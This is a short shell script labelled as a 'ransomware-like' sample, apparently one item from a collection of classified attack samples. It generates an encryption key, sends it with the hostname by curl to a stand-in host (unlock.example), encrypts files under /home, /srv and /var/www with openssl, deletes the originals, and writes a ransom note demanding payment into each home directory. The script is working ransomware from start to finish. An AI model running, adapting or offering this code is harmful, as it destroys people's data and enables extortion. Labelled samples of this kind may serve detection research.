# class: ransomware-like; style: openssl and find
key=$(openssl rand -hex 32)
curl -s -d "id=$(hostname)&k=$key" http://unlock.example/reg
find /home /srv /var/www -type f -size -50M ! -name '*.enc' | while IFS= read -r f; do
    openssl enc -aes-256-cbc -pbkdf2 -k "$key" -in "$f" -out "$f.enc" && rm -f "$f"
done
for d in /home/*; do
    echo "All files were encrypted. Pay at http://unlock.example/$(hostname)" > "$d/READ_ME.txt"
done
